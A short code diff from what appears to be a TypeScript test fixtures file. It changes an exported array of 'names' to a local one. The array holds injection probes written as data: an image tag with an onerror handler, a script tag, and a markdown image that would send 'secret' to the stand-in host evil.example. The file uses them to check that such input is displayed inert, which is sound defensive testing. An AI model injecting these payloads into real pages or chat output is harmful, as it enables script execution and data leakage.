@@ -15,7 +15,7 @@ const lying = (region: object): Scripted => card({ item: 'mug', choices: two, re
 const huge = 'x'.repeat(2_000_000)
 
 /** Names that a person must see as they are written, and that must do nothing. */
-export const names: readonly string[] = [
+const names: readonly string[] = [
   '<img src=x onerror=alert(1)>',
   '<script>globalThis.pwned = true</script>',
   '![a](https://evil.example/?q=secret)',
